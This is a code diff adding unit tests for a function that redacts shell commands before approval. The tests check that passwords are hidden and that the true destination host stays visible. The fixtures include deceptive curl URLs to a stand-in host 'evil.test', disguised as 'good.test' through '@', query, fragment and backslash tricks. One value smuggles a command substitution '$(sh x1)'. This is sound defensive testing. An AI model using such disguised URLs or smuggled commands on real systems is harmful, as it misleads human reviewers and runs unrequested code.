@@ -43,6 +43,28 @@ const CI = [
 
 describe('what a question shows', () => {
   it.each([
+    ['a query behind it', 'curl http://evil.test:8080?x1@good.test/', 'http://evil.test:8080?x1@good.test/'],
+    [
+      'a fragment behind it',
+      'curl http://evil.test:8080#a1@good.test/',
+      'http://evil.test:8080#a1@good.test/',
+    ],
+    ['a second @ in a query', 'curl http://u:p4ssw0rd@evil.test?x@good.test/', '@evil.test?x@good.test/'],
+    ['a second @ in a fragment', 'curl http://u:p4ssw0rd@evil.test#@good.test/', '@evil.test#@good.test/'],
+    ['a second @', 'curl http://u:p4ssw0rd@evil.test:80@good.test/', '@evil.test:80@good.test/'],
+    ['a backslash behind it', 'curl http://u:p4ssw0rd@evil.test\\x@good.test/', '@evil.test\\x@good.test/'],
+    ['a query before a colon', 'curl http://evil.test?q:v4lue9@good.test/', '?q:v4lue9@good.test/'],
+  ])('the host that a URL leads to, also with %s', (_, line, shown) => {
+    expect(redactForApproval(line)).toContain(shown)
+    expect(redactForApproval(line)).not.toContain('p4ssw0rd')
+  })
+
+  it('the beginning of a command that stands in a value', () => {
+    const line = 'API_KEY=abc123$(sh x1) ./run'
+    expect(redactForApproval(line)).toBe(line)
+  })
+
+  it.each([
     ['the scripts of a package', PACKAGE],
     ['the scripts of a package on one line', JSON.stringify(JSON.parse(PACKAGE))],
     ['a Makefile', MAKEFILE],
